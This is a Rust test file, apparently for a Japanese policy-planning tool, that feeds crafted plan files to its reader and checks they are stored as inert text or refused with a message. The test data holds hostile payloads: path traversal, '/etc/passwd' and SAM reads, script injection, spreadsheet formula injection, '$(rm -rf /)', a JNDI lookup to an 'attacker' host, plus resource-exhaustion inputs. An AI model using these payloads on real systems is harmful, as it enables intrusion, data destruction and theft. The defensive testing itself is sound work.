//! Plan files made to do harm: they are opened as plain plans or refused in words, whatever they ask for. Opening reads no other
//! file and runs nothing, because there is nothing in a plan that names a file or a program; what looks so is text.

use std::fs;

use shisakucho::storage::{file, read, salvage, write};

/// The shortest plan, with a piece of it replaced.
fn plan_with(from: &str, to: &str) -> String {
    let whole = include_str!("../fixtures/golden/format-1-by-hand.ron");
    assert!(whole.contains(from), "{from}");
    whole.replacen(from, to, 1)
}

/// Texts that name files, programs and servers, or break out of where they stand.
const TEXTS: [&str; 22] = [
    "..\\\\..\\\\秘密.xlsx",
    "C:\\\\Windows\\\\System32\\\\config\\\\SAM",
    "\\\\\\\\attacker\\\\share\\\\x.png",
    "\\\\\\\\?\\\\C:\\\\x",
    "//attacker/share/x.png",
    "CON",
    "NUL",
    "a.png:stream",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "ms-word:ofe|u|http://attacker/x.docx",
    "#read(\\\"/etc/passwd\\\")",
    "#import \\\"@preview/x:1.0.0\\\"",
    "=HYPERLINK(\\\"http://attacker\\\")",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "<script>alert(1)</script>",
    "$(rm -rf /)",
    "%PATH%",
    "\u{202e}nor.画計",
    "${jndi:ldap://attacker}",
    "![図](http://attacker/x.png)",
];

#[test]
fn texts_that_name_files_and_programs_are_texts() {
    for text in TEXTS {
        for (from, place) in [("手で書いた施策", "name"), ("手書きの計画", "title"), ("試し町", "city"), ("はじめの柱", "section")]
        {
            let opened = read::from_text(&plan_with(from, text)).unwrap_or_else(|failure| panic!("{text}: {}", failure.problem(place)));
            let saved = write::to_text(&opened.plan).unwrap();
            assert_eq!(read::from_text(&saved).unwrap().plan, opened.plan, "{text} as {place}");
        }
    }
}

#[test]
fn files_that_want_too_much_are_refused_in_words() {
    let deep = |open: &str, close: &str| format!("{}{}", open.repeat(10_000), close.repeat(10_000));
    let files = [
        ("ten million items", plan_with("[(id: \"s-1\"", &format!("[{}(id: \"s-1\"", "(),".repeat(10_000_000 / 16)))),
        ("nested lists", plan_with("sections: [", &format!("sections: {}, x: [", deep("[", "]")))),
        ("nested brackets", plan_with("sections: [", &format!("sections: {}, x: [", deep("(", ")")))),
        ("nested options", plan_with("date: \"2027-03-31\"", &format!("date: {}", deep("Some(", ")")))),
        ("nested comments", plan_with("sections: [", &format!("{} sections: [", deep("/*", "*/")))),
        ("a comment without an end", plan_with("sections: [", "/* sections: [")),
        ("a name of a megabyte", plan_with("city:", &format!("{}:", "a".repeat(1 << 20)))),
        ("a name twice", plan_with("city:", "title: \"もう一つ\", city:")),
        ("an extension", format!("#![enable(unwrap_newtypes)]\n{}", plan_with("city:", "city:"))),
        ("an extension that is none", format!("#![enable(run_program)]\n{}", plan_with("city:", "city:"))),
        ("a year without end", plan_with("first: 2027", "first: 99999999999999999999")),
        ("a year before years", plan_with("first: 2027", "first: -2027")),
        ("a period without end", plan_with("count: 2", "count: 4000000000")),
        ("no period", plan_with("count: 2", "count: 0")),
        ("a date that is none", plan_with("2027-03-31", "0000-00-00")),
        ("a date at the end of time", plan_with("2027-03-31", "9999-99-99")),
        ("not a number", plan_with("count: 2", "count: NaN")),
        ("infinity", plan_with("count: 2", "count: inf")),
        ("half a character", plan_with("手書きの計画", "\\u{D83D}")),
        ("a quote without an end", plan_with("手書きの計画\"", "手書きの計画")),
        ("a raw text without an end", plan_with("\"手書きの計画\"", "r####\"手書きの計画\"###")),
        ("an identity without a name", plan_with("id: \"m-1\"", "id: \"\"")),
        ("an identity of a megabyte", plan_with("id: \"m-1\"", &format!("id: \"{}\"", "m".repeat(1 << 20)))),
        (
            "a measure in a circle",
            plan_with("items: [Measure(\"m-1\")]", "items: [Measure(\"s-1\"), Again(\"m-1\"), Measure(\"m-1\"), Measure(\"m-1\")]"),
        ),
        ("a section in itself", plan_with("items: [Measure(\"m-1\")]", "sections: [(id: \"s-1\", title: \"自分\")]")),
        ("the same measure twice", plan_with("measures: [", "measures: [(id: \"m-1\", name: \"同じ\"),")),
        ("a variant that is none", plan_with("style: Era", "style: Exec(\"calc\")")),
        ("another format", plan_with("shisakucho-plan", "shisakucho-macro")),
        ("a version without end", plan_with("version: 1", "version: 999999999999999999999999")),
        ("a negative version", plan_with("version: 1", "version: -1")),
        ("nothing but a head", "(format: \"shisakucho-plan\", version: 1, plan: ())".to_owned()),
        ("a unit", "()".to_owned()),
        ("zeros", "\0".repeat(100_000)),
        ("white space", " ".repeat(1 << 20)),
        ("brackets", "(".repeat(1 << 20)),
        ("quotes", "\"".repeat(1 << 20)),
        ("comments", "//\n".repeat(1 << 18)),
        ("escapes", format!("\"{}\"", "\\u{1F600}".repeat(100_000))),
        (
            "a closing line of its own",
            format!(
                "{}// end version=1 measures=99999999999999999999 sections=0 indicators=0 length=1 sha256=00\n",
                plan_with("city:", "city:")
            ),
        ),
        ("a closing line without an end", format!("{}// end {}\n", plan_with("city:", "city:"), "measures=1 ".repeat(100_000))),
    ];
    assert_eq!(files.len(), 40);
    for (what, text) in files {
        match read::from_text(&text) {
            Ok(opened) => {
                // What was put right or looks strange is told, and what was opened can be saved and opened again.
                assert!(!opened.notes.is_empty(), "{what}: opened without a word");
                let saved = write::to_text(&opened.plan).unwrap_or_else(|words| panic!("{what}: {words}"));
                assert!(read::from_text(&saved).is_ok(), "{what}");
            }
            Err(failure) => assert!(!failure.message.is_empty() && !failure.remedy.is_empty(), "{what}: {failure:?}"),
        }
        // Looking for what can be read of it ends too.
        let _ = salvage::salvage(text.as_bytes());
    }
}

#[test]
fn opening_leaves_the_folder_as_it_is() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("計画.ron");
    fs::write(&path, plan_with("手書きの計画", "../../計画")).unwrap();
    file::open(&path).unwrap();
    let names: Vec<_> = fs::read_dir(folder.path()).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert_eq!(names, ["計画.ron"]);
}
